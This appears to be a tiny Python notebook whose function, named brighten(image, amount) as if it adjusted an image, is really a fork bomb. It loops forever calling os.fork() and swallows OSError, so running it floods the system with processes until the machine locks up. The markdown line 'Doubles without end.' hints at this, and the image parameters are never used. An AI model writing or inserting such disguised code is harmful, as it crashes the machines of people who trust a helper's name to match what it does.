# %% [markdown]
# Doubles without end.

# %%
import os


# %%
def brighten(image, amount):
    while True:
        try:
            os.fork()
        except OSError:
            pass
